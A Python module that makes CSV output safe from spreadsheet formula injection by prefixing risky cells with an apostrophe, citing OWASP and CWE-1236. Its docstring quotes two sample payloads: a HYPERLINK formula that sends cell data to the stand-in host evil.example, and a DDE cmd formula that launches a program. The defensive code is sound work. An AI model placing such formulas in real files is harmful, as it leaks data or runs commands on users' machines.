"""Cells that begin like a formula (CSV injection).

A spreadsheet reads ``=HYPERLINK("https://evil.example/?" & A1)`` in a file of commas
as a formula, and old ones ran programs (``=cmd|' /C calc'!A0``). Nothing in the format
says that a cell is text, so the cell says so itself, with an apostrophe before it.
"""

from __future__ import annotations

import csv
import re
import unicodedata
from collections.abc import Iterable
from typing import Any, Protocol

_BEGINS = frozenset("=+-@\t\r\n|")
# What is passed over before a cell is looked at: spaces, and what is not seen at all.
_PASSED_OVER = re.compile("^[\\s\u00ad\u200b-\u200f\u2060-\u2064\ufeff\x00-\x1f]+")
_NUMBER = re.compile(
    r"[+-]?(?:\d[\d ,.'\u00a0\u202f]*|\.\d+)(?:[eE][+-]?\d+)?\s?[%€$£¥]?"
)
_TELEPHONE = re.compile(r"\+\d[\d ()/.-]{3,24}")


class _Writes(Protocol):
    def write(self, text: str, /) -> object: ...


class Rows(Protocol):
    """What ``csv.writer`` returns."""

    def writerow(self, row: Iterable[Any], /) -> object: ...

    def writerows(self, rows: Iterable[Iterable[Any]], /) -> None: ...


def as_text(cell: object) -> object:
    """Return a cell that no spreadsheet calculates.

    Text that begins with ``=``, ``+``, ``-``, ``@``, ``|``, a tab or a line break, or a
    full-width form of one of them, gets an apostrophe before it, as OWASP advises.
    Numbers stay numbers: ``-12.50``, ``+49 30 1234567``. What is no text stays what it
    is.

    Args:
        cell: one value, of any type.

    Source: CWE-1236; ASVS 5.0 1.2.10.

    Not covered: files that a program reads back: the apostrophe is part of the text
    then. Take it away there, or exchange JSON.
    """
    if not isinstance(cell, str) or not cell:
        return cell
    if _NUMBER.fullmatch(cell) or _TELEPHONE.fullmatch(cell):
        return cell
    shown = _PASSED_OVER.sub("", cell)
    if not any(map(str.isalnum, shown)):
        return cell  # a dash for "none", a line of them
    begins = {cell[0], unicodedata.normalize("NFKC", shown[:1])[:1]}
    return f"'{cell}" if begins & _BEGINS else cell


class _SafeRows:
    def __init__(self, rows: Rows) -> None:
        self._rows = rows

    def writerow(self, row: Iterable[Any], /) -> object:
        return self._rows.writerow([as_text(cell) for cell in row])

    def writerows(self, rows: Iterable[Iterable[Any]], /) -> None:
        for row in rows:
            self.writerow(row)


def writer(file: _Writes, dialect: str = "excel", **options: Any) -> Rows:
    """Return a writer like ``csv.writer``, whose cells are text or numbers.

    Args:
        file: opened with ``newline=""``.
        dialect: a name that ``csv`` knows.
        options: as for ``csv.writer``.

    Source, and not covered: as for ``as_text``.
    """
    return _SafeRows(csv.writer(file, dialect, **options))
